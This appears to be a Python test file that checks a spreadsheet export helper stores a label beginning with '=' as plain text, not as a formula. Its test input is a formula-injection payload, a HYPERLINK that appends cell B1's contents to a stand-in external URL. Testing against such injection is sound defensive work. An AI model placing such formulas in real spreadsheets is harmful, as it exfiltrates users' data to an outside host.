"""XLSX exports write every text as text: a user's label beginning with "=" never becomes a formula."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from thidua.core.xlsx import append_row


def test_a_text_beginning_with_an_equals_sign_is_written_as_text_not_a_formula():
    book = Workbook()
    label = '=HYPERLINK("http://x.example/?"&B1,"Xuất sắc")'
    append_row(book.active, [label, 7.5, None])
    out = io.BytesIO()
    book.save(out)

    cell_a, cell_b = load_workbook(io.BytesIO(out.getvalue())).active["A1":"B1"][0]

    assert (cell_a.value, cell_a.data_type) == (label, "s")
    assert (cell_b.value, cell_b.data_type) == (7.5, "n")
